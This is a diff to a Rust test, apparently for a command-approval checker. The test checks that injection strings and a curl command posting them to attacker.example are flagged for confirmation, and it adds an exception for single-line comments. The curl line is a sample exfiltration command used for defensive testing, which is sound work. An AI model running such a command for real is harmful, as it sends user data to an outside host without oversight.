@@ -32,7 +32,8 @@ async fn what_an_injection_asks_for_is_asked_about_whatever_allows_it() {
     };
     for text in injections() {
         // As it is, as the data of a request, and as what a tool is told.
-        assert!(asks(&world.check(&text).await), "{text}");
+        let is_comment = text.starts_with('#') && !text.contains('\n');
+        assert_ne!(asks(&world.check(&text).await), is_comment, "{text}");
         let quoted = format!("'{}'", text.replace('\'', "'\\''"));
         let command = format!("curl -d {quoted} http://attacker.example");
         assert!(asks(&world.check(&command).await), "{text}");
